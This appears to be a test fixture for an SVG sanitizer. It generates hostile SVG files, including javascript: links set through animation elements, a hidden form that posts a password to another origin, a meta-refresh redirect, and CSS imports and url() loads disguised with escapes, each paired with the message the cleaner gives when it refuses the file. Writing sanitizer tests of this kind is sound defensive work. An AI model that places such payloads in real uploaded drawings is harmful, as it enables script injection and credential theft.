/**
 * Drawings that would run script, post a form, leave the site or load from another origin were
 * they published as they are and opened at their own address on a host that sends no headers.
 * `outside` is the origin they reach for (a server of the test, standing for another site); each
 * payload that runs sets the page's title to `pwned`.
 */
export const pwned = 'pwned';

const svg = (inside: string, head = '') =>
  `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ` +
  `width="400" height="300" viewBox="0 0 400 300">${inside}<rect width="400" height="300" fill="#1f6f50" ` +
  `fill-opacity="0.1"/></svg>\n`;

/** The payloads by file name, each with what the cleaner names when it refuses it. */
export function svgPayloads(outside: string): { name: string; svg: string; found: string }[] {
  const run = `document.title='${pwned}';fetch('${outside}/ran')`;
  return [
    {
      name: 'set-href.svg',
      svg: svg(`<a><set attributeName="href" to="javascript:${run}"/><rect width="400" height="300"/></a>`),
      found: '<a>',
    },
    {
      name: 'animate-href.svg',
      svg: svg(
        `<a><animate attributeName="href" values="javascript:${run}" dur="1s" repeatCount="indefinite"/>` +
          '<rect width="400" height="300"/></a>',
      ),
      found: '<a>',
    },
    {
      name: 'form.svg',
      svg: svg(
        '<foreignObject width="400" height="300"><form xmlns="http://www.w3.org/1999/xhtml" ' +
          `action="${outside}/form" method="post"><input name="password" type="password" value="secret"/>` +
          '<button style="width:400px;height:300px">Sign in</button></form></foreignObject>',
      ),
      found: '<foreignObject>',
    },
    {
      name: 'meta-refresh.svg',
      svg: svg(
        '<foreignObject width="10" height="10"><meta xmlns="http://www.w3.org/1999/xhtml" ' +
          `http-equiv="refresh" content="0;url=${outside}/refresh"/></foreignObject>`,
      ),
      found: '<foreignObject>',
    },
    { name: 'image.svg', svg: svg(`<image href="${outside}/image.png" width="10" height="10"/>`), found: '<image>' },
    {
      name: 'use.svg',
      svg: svg(`<use href="${outside}/sprite.svg#shape"/>`),
      found: `href="${outside}/sprite.svg#shape"`.slice(0, 46),
    },
    { name: 'import.svg', svg: svg(`<style>@import "${outside}/import.css";</style>`), found: '<style> with @import' },
    {
      name: 'url.svg',
      svg: svg(`<style>svg { background-image: url(${outside}/url.png) }</style>`),
      found: '<style> with url()',
    },
    {
      name: 'image-set.svg',
      svg: svg(`<style>svg { background-image: image-set("${outside}/image-set.png" 1x) }</style>`),
      found: '<style> with image-set()',
    },
    {
      name: 'xml-stylesheet.svg',
      svg: svg('', `<?xml-stylesheet type="text/css" href="${outside}/pi.css"?>\n`),
      found: '<?xml-stylesheet?>',
    },
    {
      name: 'escaped-import.svg',
      svg: svg(`<style>@\\69mport "${outside}/escaped-import.css";</style>`),
      found: '<style> with a CSS escape',
    },
    {
      name: 'escaped-url.svg',
      svg: svg(`<style>svg { background-image: \\75rl(${outside}/escaped-url.png) }</style>`),
      found: '<style> with a CSS escape',
    },
    {
      name: 'cursor.svg',
      svg: svg(`<rect width="400" height="300" style="cursor: image-set('${outside}/cursor.png' 1x), auto"/>`),
      found: 'style="cursor: image-set(',
    },
    {
      name: 'character-reference.svg',
      svg: svg(`<style>svg { background-image: u&#114;l(${outside}/reference.png) }</style>`),
      found: '<style> with url()',
    },
  ];
}
